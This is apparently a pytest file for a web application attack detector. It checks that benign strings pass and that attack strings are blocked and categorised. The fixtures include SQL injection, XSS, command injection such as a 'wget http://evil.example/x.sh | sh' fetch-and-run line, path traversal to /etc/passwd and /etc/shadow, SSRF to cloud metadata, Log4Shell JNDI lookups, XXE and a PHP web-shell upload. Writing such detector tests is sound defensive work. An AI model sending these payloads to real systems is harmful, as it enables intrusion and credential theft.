"""Behaviour of the attack detector, one group of tests per detector and per location."""

from __future__ import annotations

import json
import threading
from urllib.parse import quote, urlencode

import pytest

from dijk.detect.engine import Detector, rescore, wildcard_indices
from dijk.detect.findings import Exclusion, GraphQLLimits, RequestParts, Verdict
from dijk.detect.rules import CATEGORIES, RULES

DETECTOR = Detector()


def search(value: str, detector: Detector = DETECTOR) -> Verdict:
    return detector.inspect(
        RequestParts.from_target("GET", "/api/v1/search?" + urlencode({"q": value}))
    )


def json_body(
    body: object, path: str = "/api/v1/accounts", detector: Detector = DETECTOR
) -> Verdict:
    return detector.inspect(
        RequestParts.from_target(
            "POST", path, [("Content-Type", "application/json")], json.dumps(body).encode()
        )
    )


def rule_ids(verdict: Verdict) -> set[str]:
    return {finding.rule_id for finding in verdict.findings}


# -- the benign look-alikes and demo attacks ------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "O'Brien",
        "select the best plan for me",
        "drop me a line",
        "Rock & Roll <3",
        "1=1 in our tests",
        "Bonus: online=true",
        "JavaScript: Basics of JavaScript Language",
        "exec noun",
        "I like dogs; cat people differ",
        "Price: $5 or $6, whichever is lower",
        "see https://example.com/docs?page=2",
        "The `type` of the source, one of `card` or `ideal`.",
        "Set to `true` to confirm",
        "A limit ranging from 1 to 100 (defaults to 10).",
        "Smith & Sons <sales@example.com>",
        "2025-11-25T12:00:00Z",
        "+31 6 12345678",
        "Chloé de Vries",
    ],
)
def test_benign_look_alikes_pass_at_paranoia_1(text: str) -> None:
    verdict = search(text)
    assert not verdict.blocked, verdict.findings
    assert not json_body({"comment": text}).blocked


@pytest.mark.parametrize(
    ("text", "category"),
    [
        ("1' UNION SELECT username, password FROM users--", "sqli"),
        ("<img src=x onerror=alert(1)>", "xss"),
        ("; cat /etc/passwd", "cmdi"),
        ("../../etc/shadow", "path_traversal"),
        ("${jndi:ldap://evil.example/a}", "log4shell"),
    ],
)
def test_demo_attacks_in_q_are_blocked_with_their_category(text: str, category: str) -> None:
    verdict = search(text)
    assert verdict.blocked
    assert category in verdict.categories


def test_sql_injection_inside_a_json_field_is_blocked_with_its_path() -> None:
    verdict = json_body({"owner": {"name": "x' OR '1'='1' --"}, "amount": 10})
    assert verdict.blocked
    assert "sqli" in verdict.categories
    assert {finding.field for finding in verdict.findings} == {"$.owner.name"}
    assert {finding.location for finding in verdict.findings} == {"json"}


def test_sql_injection_inside_graphql_variables_is_blocked() -> None:
    body = {
        "query": "query Find($name: String!) { accounts(name: $name) { id iban } }",
        "variables": {"name": "1 UNION SELECT password FROM users"},
    }
    verdict = json_body(body, path="/graphql")
    assert verdict.blocked
    assert any(f.field == "$.variables.name" and f.category == "sqli" for f in verdict.findings)


def test_sql_injection_in_an_inline_graphql_argument_is_blocked() -> None:
    query = '{ accounts(name: "x\' OR 1=1 --") { id } }'
    verdict = json_body({"query": query}, path="/graphql")
    assert verdict.blocked
    assert "sqli" in verdict.categories


def test_a_plain_graphql_query_passes() -> None:
    query = "query { accounts(first: 10) { id owner { name } } }"
    assert not json_body({"query": query}, path="/graphql").blocked


# -- SQL injection ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "admin'--",
        "1 AND SLEEP(5)",
        "1; DROP TABLE users",
        "' or 1=1#",
        "1 union/**/select 1,2",
        "1/*!50000union*/ /*!50000select*/ 1",
        "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
        "1 and (select count(*) from information_schema.tables)>0",
        "%27%20OR%20%271%27%3D%271",
    ],
)
def test_sql_injection_variants_are_blocked(text: str) -> None:
    verdict = search(text)
    assert verdict.blocked, text
    assert "sqli" in verdict.categories


def test_sql_comment_transform_is_reported() -> None:
    verdict = search("1 union/**/select 1,2")
    assert any(
        f.rule_id == "sqli-union-select" and "sqlcomment" in f.transform for f in verdict.findings
    )


def test_double_url_encoding_reports_the_url_transform() -> None:
    verdict = search("%2527%2520UNION%2520SELECT%25201%252C2--")
    assert verdict.blocked
    assert any(f.transform.startswith("url") for f in verdict.findings)


def test_weak_libinjection_fingerprint_alone_does_not_block() -> None:
    verdict = search('"LIKE" STAMP')
    assert not verdict.blocked


# -- XSS ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<svg/onload=alert(1)>",
        '" onmouseover="alert(document.cookie)',
        "javascript:alert(1)",
        "&lt;img src=x onerror=alert(1)&gt;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "<iframe src=//evil.example>",
    ],
)
def test_xss_variants_are_blocked(text: str) -> None:
    verdict = search(text)
    assert verdict.blocked, text
    assert "xss" in verdict.categories


def test_html_entities_report_the_html_transform() -> None:
    verdict = search("&lt;script&gt;alert(1)&lt;/script&gt;")
    assert any(f.transform.endswith("html") for f in verdict.findings if f.category == "xss")


def test_full_width_letters_report_the_unicode_transform() -> None:
    verdict = search("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e")
    assert any("unicode" in f.transform for f in verdict.findings)


# -- command injection, traversal, code -------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "127.0.0.1; cat /etc/passwd",
        "x | id",
        "$(whoami)",
        "`id`",
        "a;cat${IFS}/etc/passwd",
        "() { :; }; /bin/bash -c 'id'",
        "127.0.0.1 && ls /etc",
        "; wget http://evil.example/x.sh | sh",
        "\\nid|",
    ],
)
def test_command_injection_is_blocked(text: str) -> None:
    verdict = search(text)
    assert verdict.blocked, text
    assert "cmdi" in verdict.categories or "path_traversal" in verdict.categories


@pytest.mark.parametrize(
    "text",
    [
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
        "....//....//etc/hosts",
        "/proc/self/environ",
        "php://filter/convert.base64-encode/resource=index.php",
    ],
)
def test_path_traversal_is_blocked(text: str) -> None:
    verdict = search(text)
    assert verdict.blocked, text
    assert "path_traversal" in verdict.categories


def test_overlong_utf8_reports_the_url_transform() -> None:
    verdict = search("%c0%ae%c0%ae%c0%afetc%c0%afpasswd")
    assert any(f.transform.startswith("url") for f in verdict.findings)


def test_traversal_in_the_path_is_blocked() -> None:
    request = RequestParts.from_target("GET", "/static/%2e%2e/%2e%2e/etc/passwd")
    verdict = DETECTOR.inspect(request)
    assert verdict.blocked
    assert any(f.location == "path" for f in verdict.findings)


# -- SSRF ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1/admin",
        "http://2130706433/",
        "http://0x7f.0.0.1/",
        "http://0177.0.0.1/",
        "http://[::ffff:127.0.0.1]/",
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://10.0.0.5:8080/internal",
        "gopher://localhost:6379/_FLUSHALL",
        "file:///etc/passwd",
        "dict://127.0.0.1:11211/stat",
        "http://user@localhost/",
    ],
)
def test_ssrf_urls_are_blocked(url: str) -> None:
    verdict = json_body({"callback_url": url})
    assert verdict.blocked, url
    assert "ssrf" in verdict.categories or "path_traversal" in verdict.categories


def test_public_urls_pass() -> None:
    assert not json_body({"callback_url": "https://hooks.example.com/dijk?id=7"}).blocked


# -- NoSQL, LDAP, SSTI, Log4Shell, prototype pollution -----------------------------------------


def test_nosql_operator_as_a_json_key_is_blocked() -> None:
    verdict = json_body({"username": "admin", "password": {"$ne": None}})
    assert verdict.blocked
    assert "nosql-operator-key" in rule_ids(verdict)


def test_nosql_operator_in_a_parameter_name_is_blocked() -> None:
    request = RequestParts.from_target("GET", "/login?username=admin&password[$ne]=x")
    verdict = DETECTOR.inspect(request)
    assert verdict.blocked
    assert "nosql" in verdict.categories


@pytest.mark.parametrize("text", ["true, $where: '1 == 1'", '{"$gt": ""}', "db.users.find({})"])
def test_nosql_operators_in_values_are_blocked(text: str) -> None:
    assert search(text).blocked


@pytest.mark.parametrize(
    "text", ["*)(uid=*))(|(uid=*", "admin)(|(objectclass=*))", "cn:2.5.13.2:=x"]
)
def test_ldap_injection_is_blocked(text: str) -> None:
    verdict = search(text)
    assert verdict.blocked
    assert "ldap" in verdict.categories


@pytest.mark.parametrize(
    "text",
    [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    ],
)
def test_template_injection_is_blocked(text: str) -> None:
    verdict = search(text)
    assert verdict.blocked
    assert "ssti" in verdict.categories


def test_template_placeholders_without_expressions_pass() -> None:
    assert not search("Hello {{username}}, welcome").blocked


@pytest.mark.parametrize(
    "text",
    [
        "${jndi:ldap://x.example/a}",
        "${${lower:j}ndi:${lower:l}dap://x.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
        "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x.example/a}",
    ],
)
def test_log4shell_with_nested_lookups_is_blocked(text: str) -> None:
    verdict = DETECTOR.inspect(RequestParts.from_target("GET", "/", [("User-Agent", text)]))
    assert verdict.blocked
    assert "log4shell" in verdict.categories


def test_log4shell_resolution_is_reported_as_a_transform() -> None:
    verdict = search("${${lower:j}ndi:ldap://x.example/a}")
    assert any(f.rule_id == "log4shell-jndi" and f.transform == "log4j" for f in verdict.findings)


def test_prototype_pollution_keys_are_blocked() -> None:
    verdict = json_body({"user": {"__proto__": {"isAdmin": True}}})
    assert verdict.blocked
    assert "prototype_pollution" in verdict.categories
    assert json_body({"constructor": {"prototype": {"x": 1}}}).blocked
    query = DETECTOR.inspect(RequestParts.from_target("GET", "/x?__proto__[admin]=1"))
    assert query.blocked


# -- XML / XXE, multipart, form, headers ----------------------------------------------------


def xml(body: str) -> Verdict:
    return DETECTOR.inspect(
        RequestParts.from_target(
            "POST", "/import", [("Content-Type", "application/xml")], body.encode()
        )
    )


def test_xxe_external_entity_is_blocked() -> None:
    verdict = xml(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    )
    assert verdict.blocked
    assert "xxe" in verdict.categories
    assert "xxe-doctype" in rule_ids(verdict)


def test_billion_laughs_is_blocked_without_expansion() -> None:
    lol = "".join(f'<!ENTITY l{i} "{"&l" + str(i - 1) + ";" * 10}">' for i in range(1, 10))
    verdict = xml(f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol">{lol}]><r>&l9;</r>')
    assert verdict.blocked


def test_xml_values_are_inspected_with_their_path() -> None:
    verdict = xml('<?xml version="1.0"?><order><note a="x">1 UNION SELECT 1,2</note></order>')
    assert verdict.blocked
    assert any(f.field == "/order/note" and f.location == "xml" for f in verdict.findings)


def test_plain_xml_passes() -> None:
    assert not xml('<?xml version="1.0"?><order id="7"><item qty="2">Tea</item></order>').blocked


def test_utf7_xml_is_blocked() -> None:
    body = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE foo+AFs +ADw-foo+AD4'
    assert xml(body).blocked


def multipart(filename: str, content: bytes, part_type: str = "image/png") -> Verdict:
    boundary = "b0undary"
    body = (
        (
            f"--{boundary}\r\n"
            f'Content-Disposition: form-data; name="file"; filename="{filename}"\r\n'
            f"Content-Type: {part_type}\r\n\r\n"
        ).encode()
        + content
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return DETECTOR.inspect(
        RequestParts.from_target(
            "POST", "/upload", [("Content-Type", f"multipart/form-data; boundary={boundary}")], body
        )
    )


def test_php_upload_disguised_as_image_is_blocked() -> None:
    assert "upload-executable-extension" in rule_ids(multipart("shell.php.png", b"\x89PNG..."))
    assert "upload-content-mismatch" in rule_ids(multipart("cat.png", b"<?php system($_GET[1]);"))


def test_ordinary_image_upload_passes() -> None:
    assert not multipart("cat.png", b"\x89PNG\r\n\x1a\n' OR 1=1 -- binary noise").blocked


def test_form_fields_are_inspected() -> None:
    body = urlencode({"name": "x", "comment": "<script>alert(1)</script>"}).encode()
    verdict = DETECTOR.inspect(
        RequestParts.from_target(
            "POST", "/c", [("Content-Type", "application/x-www-form-urlencoded")], body
        )
    )
    assert verdict.blocked
    assert any(f.location == "form" and f.field == "comment" for f in verdict.findings)


def test_cookies_and_custom_headers_are_inspected() -> None:
    request = RequestParts.from_target(
        "GET", "/", [("Cookie", "session=abc; pref=' OR '1'='1' --"), ("X-Tenant", "$(id)")]
    )
    verdict = DETECTOR.inspect(request)
    assert {"cookie", "header"} <= {finding.location for finding in verdict.findings}


def test_api_key_headers_are_not_inspected() -> None:
    request = RequestParts.from_target("GET", "/", [("X-API-Key", "' OR 1=1 --")])
    assert DETECTOR.inspect(request).findings == ()


def test_base64_encoded_attack_reports_the_base64_transform() -> None:
    import base64

    encoded = base64.b64encode(b"<script>alert(1)</script>").decode()
    verdict = search(encoded)
    assert verdict.blocked
    assert any(f.transform.startswith("base64") for f in verdict.findings)


def test_attack_in_a_jwt_claim_is_found() -> None:
    import base64

    def segment(value: object) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")

    token = ".".join(
        [segment({"alg": "HS256", "kid": "../../../../dev/null"}), segment({"sub": "1"}), "sig"]
    )
    verdict = DETECTOR.inspect(
        RequestParts.from_target("GET", "/", [("Authorization", f"Bearer {token}")])
    )
    assert verdict.blocked
    assert any(f.transform == "jwt" for f in verdict.findings)


# -- GraphQL limits -------------------------------------------------------------------------


def graphql(query: str, limits: GraphQLLimits | None = None) -> Verdict:
    detector = Detector(graphql_limits=limits) if limits else DETECTOR
    return json_body({"query": query}, path="/graphql", detector=detector)


def test_graphql_introspection_is_blocked() -> None:
    verdict = graphql("query { __schema { types { name } } }")
    assert verdict.blocked
    assert "graphql-introspection" in rule_ids(verdict)


def test_graphql_introspection_can_be_allowed() -> None:
    limits = GraphQLLimits(allow_introspection=True)
    assert not graphql("query { __schema { types { name } } }", limits).blocked


def test_graphql_depth_limit_follows_fragments() -> None:
    nested = "b { c { d { e { f { g { h { i { j { k { l } } } } } } } } } }"
    deep = "query { a { ...F } } fragment F on A { " + nested + " }"
    assert "graphql-depth" in rule_ids(graphql(deep))


def test_cyclic_graphql_fragments_terminate() -> None:
    verdict = graphql("query { a { ...F } } fragment F on A { b { ...F } }")
    assert isinstance(verdict.score, int)


def test_graphql_alias_flood_is_blocked() -> None:
    aliases = " ".join(f"a{i}: account(id: {i}) {{ id }}" for i in range(50))
    assert "graphql-aliases" in rule_ids(graphql("query { " + aliases + " }"))


def test_graphql_batch_limit() -> None:
    batch = [{"query": "query { status }"}] * 20
    verdict = json_body(batch, path="/graphql")
    assert "graphql-batch" in rule_ids(verdict)


def test_graphql_get_with_query_parameter() -> None:
    request = RequestParts.from_target(
        "GET", "/graphql?" + urlencode({"query": "{ __schema { types { name } } }"})
    )
    assert "graphql_abuse" in DETECTOR.inspect(request).categories


# -- scoring, paranoia, exclusions, snippets ---------------------------------------------------


def test_every_rule_has_id_category_severity_paranoia_and_description() -> None:
    ids = [rule.rule_id for rule in RULES]
    assert len(ids) == len(set(ids))
    for rule in RULES:
        assert rule.category in CATEGORIES
        assert rule.severity in (2, 3, 4, 5)
        assert 1 <= rule.paranoia <= 4
        assert rule.description


def test_higher_paranoia_adds_findings() -> None:
    text = "<b>bold</b> move"
    assert not search(text).blocked
    assert search(text, Detector(paranoia=2)).findings


def test_rescore_matches_a_detector_at_that_level() -> None:
    text = "select name from users"
    high = search(text, Detector(paranoia=4))
    for level in (1, 2, 3):
        direct = search(text, Detector(paranoia=level))
        assert rescore(high.findings, level, 5) == direct


def test_threshold_changes_the_decision() -> None:
    verdict = search('"LIKE" STAMP', Detector(threshold=3))
    assert verdict.blocked


def test_exclusion_by_field_and_category() -> None:
    detector = Detector(exclusions=[Exclusion("$.description", frozenset({"sqli"}))])
    body = {"description": "x' OR '1'='1' --", "name": "x' OR '1'='1' --"}
    verdict = json_body(body, detector=detector)
    assert {finding.field for finding in verdict.findings} == {"$.name"}


def test_exclusion_with_array_wildcard() -> None:
    detector = Detector(exclusions=[Exclusion("$.items[*].note")])
    verdict = json_body({"items": [{"note": "<script>alert(1)</script>"}]}, detector=detector)
    assert not verdict.findings
    assert wildcard_indices("$.items[12].tags[0]") == "$.items[*].tags[*]"


def test_invalid_configuration_is_refused() -> None:
    with pytest.raises(ValueError, match="paranoia"):
        Detector(paranoia=5)
    with pytest.raises(ValueError, match="threshold"):
        Detector(threshold=0)


def test_snippets_are_short_escaped_and_never_the_whole_payload() -> None:
    payload = "A" * 500 + "<script>alert('\u2603')</script>" + "B" * 500
    verdict = search(payload)
    assert verdict.blocked
    for finding in verdict.findings:
        assert len(finding.snippet) <= 64
        assert "<" not in finding.snippet
        assert "'" not in finding.snippet
        assert finding.snippet.isascii()


def test_primary_category_and_rule_ids() -> None:
    verdict = search("1' UNION SELECT 1,2--")
    assert verdict.primary_category == "sqli"
    assert "sqli-union-select" in verdict.rule_ids


def test_pre_parsed_json_body_is_used() -> None:
    request = RequestParts(
        method="POST",
        path="/api",
        content_type="application/json",
        json_body={"q": "<script>alert(1)</script>"},
        has_json_body=True,
    )
    assert DETECTOR.inspect(request).blocked


def test_inspect_values_takes_plain_leaves() -> None:
    verdict = DETECTOR.inspect_values([("query", "q", "1 UNION SELECT 1,2")])
    assert verdict.blocked


def test_concurrent_inspection_gives_the_same_verdicts() -> None:
    payloads = ["1 UNION SELECT 1,2", "hello", "<svg onload=alert(1)>", "O'Brien"] * 50
    expected = [search(payload).blocked for payload in payloads]
    results: list[list[bool]] = []

    def work() -> None:
        results.append([search(payload).blocked for payload in payloads])

    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert results == [expected] * 4


def test_path_with_plus_and_percent_is_decoded_once() -> None:
    verdict = DETECTOR.inspect(RequestParts.from_target("GET", "/files/" + quote("a+b c.txt")))
    assert not verdict.blocked
